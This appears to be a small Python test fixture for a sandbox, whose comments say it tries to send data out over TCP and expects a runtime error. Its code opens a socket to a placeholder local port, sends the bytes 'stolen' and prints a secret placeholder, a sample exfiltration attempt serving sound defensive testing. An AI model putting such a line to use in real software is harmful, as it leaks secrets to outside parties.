# tries: to send data out over TCP
# kind: stdio
# seen: runtime_error
import socket
socket.create_connection(("127.0.0.1", @PORT@), timeout=2).sendall(b"stolen")
print("@SECRET@")
